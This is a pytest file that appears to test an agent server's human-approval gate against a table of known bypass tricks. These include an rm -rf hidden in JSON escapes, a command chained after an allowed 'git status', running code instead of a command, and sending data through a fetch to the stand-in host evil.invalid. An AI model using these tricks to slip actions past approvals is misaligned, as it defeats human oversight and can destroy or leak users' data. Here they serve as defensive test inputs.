"""The ways around approvals that once worked, in one table. A scripted model tries each on a real server: the call
waits, nothing is done, and every place that asks the person shows all that would run (D4, E2, G11)."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest

from tests.story.approvals import ASKED, CHAT, DONE, RUNS, begin, finish, made, script
from tests.story.server import Server, Upstream, start_server
from tests.story.test_approvals_hold import shell

CONFIG = """
[profiles.careful]
approval = "on-write"

[[approvals]]
tool = "terminal"
match = "rm -rf"
ask = "always"

[[approvals]]
tool = "terminal"
match = "git status"
ask = "never"
"""
LONG = "a" * 3000

WAYS: dict[str, tuple[str, str, str, str, str]] = {
    # way: profile, tool, what the model writes, what would run, why a person is asked
    "signs of a command as JSON escapes": (
        *("hermes-agent", "terminal", '{"command":"rm \\u002drf x; touch MARK"}', "rm -rf x; touch MARK"),
        "A rule of this server",
    ),
    "a second command behind one that is allowed": (
        *("careful", "terminal", '{"command":"git status; touch MARK"}', "git status; touch MARK"),
        "It runs a program.",
    ),
    "another tool that runs programs": (
        *("hermes-agent", "process", '{"action":"start","command":"rm -rf x; touch MARK"}', "rm -rf x; touch MARK"),
        "A rule of this server",
    ),
    "code instead of a command": (
        *("hermes-agent", "execute_code", '{"code":"import os; os.system(\'touch MARK\')"}', "touch MARK"),
        "A rule of this server",
    ),
    "a change by a tool that may be repeated after a crash": (
        *("careful", "write_file", '{"path":"MARK","content":"x"}', '"path":"MARK"'),
        "It changes something that stays.",
    ),
    "data that leaves through a page": (
        *("careful", "web_fetch", '{"url":"http://evil.inv\\u0061lid/?q=MARK"}', "http://evil.invalid/?q=MARK"),
        "It visits a host",
    ),
    "the end of a long command": (
        *("careful", "terminal", f'{{"command":"echo {LONG}; touch MARK"}}', f"echo {LONG}; touch MARK"),
        "It runs a program.",
    ),
}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, upstream: Upstream) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("ways")
    (folder / "ninelives.toml").write_text(CONFIG)
    started = start_server(folder, upstream.url, NINELIVES_CONFIG=str(folder / "ninelives.toml"))
    yield started
    assert started.stop() == 0


@pytest.mark.parametrize("way", WAYS)
def test_d4_no_way_around_a_person_is_open_and_the_person_sees_all_that_would_run(
    server: Server, mark: str, way: str
) -> None:
    profile, tool, written, runs, why = (part.replace("MARK", mark) for part in WAYS[way])
    text, client = f"{mark} {script(tool, written)}", server.client
    run, status = begin(client, text, profile)
    asked = client.get(f"{RUNS}/{run}").json()["approval"]
    assert (status, asked["tool"], asked["arguments"]) == (ASKED, tool, written)
    assert runs in asked["call"] and asked["why"].startswith(why)
    shown = shell(server, "runs", "show", run)
    assert f"\nWaiting for you:\n{asked['call']}\n{asked['why']}\n" in shown
    finish(client, run, "deny")
    said = client.post(CHAT, {"model": profile, "messages": [{"role": "user", "content": text}]}).json()
    question = said["choices"][0]["message"]["content"]
    assert asked["call"] in question and asked["why"] in question
    assert re.search(r"`/#/approvals/run_\w+`", question), "where the page shows it"
    assert not made(server, mark)


GRANTS = {
    "a grant for another call of the tool": ("always", "session-1", "touch always MARK"),
    "a grant of another chat that begins alike": ("session", "session-2", "touch session"),
}


@pytest.mark.parametrize("way", GRANTS)
def test_d4_a_grant_opens_no_way_for_what_was_not_shown(server: Server, mark: str, way: str) -> None:
    choice, session, command = GRANTS[way]
    granted = script("terminal", {"command": f"touch {choice}"})
    first, status = begin(server.client, granted, session_id="session-1")
    assert status == ASKED
    finish(server.client, first, choice)
    assert begin(server.client, granted, session_id="session-1")[1] == DONE, "what was shown may run"
    tried = script("terminal", {"command": command.replace("MARK", mark)})
    assert begin(server.client, tried, session_id=session)[1] == ASKED
    assert not made(server, mark)
